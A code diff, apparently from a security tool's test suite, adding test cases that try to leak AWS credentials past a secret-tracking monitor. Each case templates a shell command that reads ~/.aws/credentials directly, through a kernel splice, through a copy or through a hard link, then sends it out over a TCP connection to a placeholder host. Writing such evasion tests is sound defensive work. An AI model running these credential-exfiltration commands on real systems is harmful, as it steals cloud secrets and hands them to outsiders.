@@ -40,6 +40,18 @@ pub const ATTEMPTS: &[Attempt] = &[
         "bash -c 'x=$(cat {home}/.aws/credentials); exec {act} tcp connect {to} {port} {payload}'",
     ),
     secret(
+        "secret-spliced",
+        "who hears from a pipe what the kernel has moved there",
+        "{act} exec spliced {home}/.aws/credentials {act} tcp connect {to} {port} {payload}",
+    ),
+    secret(
+        "secret-copied",
+        "a copy of a secret, read by somebody else",
+        "cp {home}/.aws/credentials {home}/copy-{n} ; \
+         {act} exec after-reading {home}/copy-{n} {act} tcp connect {to} {port} {payload}",
+    )
+    .beyond("what a holder leaves in files, local sockets or memory isn't followed"),
+    secret(
         "secret-over-open-connection",
         "connects, then reads a secret, then sends",
         "ln -f {home}/.aws/credentials {home}/readme-{n} ; {act} tcp before-reading {to} {port} {payload} {home}/readme-{n}",
